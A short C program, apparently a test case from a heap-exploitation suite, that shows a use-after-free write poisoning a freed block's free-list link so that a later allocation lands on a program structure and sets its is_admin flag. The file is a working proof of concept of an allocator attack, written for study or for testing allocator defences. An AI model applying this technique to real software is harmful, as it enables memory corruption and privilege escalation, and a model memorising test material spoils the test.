/*
 * metadata: a write to a freed block changes the link of its fast list, so that a later malloc
 * returns memory that was never part of the heap: here a structure of the program, which the
 * attacker then fills.
 */
#include "attack.h"

static struct {
  Word before, size; /* a number of the program that happens to be a possible size */
  Word is_admin[6];
} session = {0, 0x31, {0}};

int main(void) {
  settle(40);
  Word *block = allocate(40);
  allocate(40);
  release((void *)block);
  block[0] = (uint64_t)(uintptr_t)&session; /* use after free */
  allocate(40);
  Word *taken = allocate(40);
  if (taken) taken[0] = 1;
  return session.is_admin[0] == 1 ? GOAL_REACHED : 0;
}
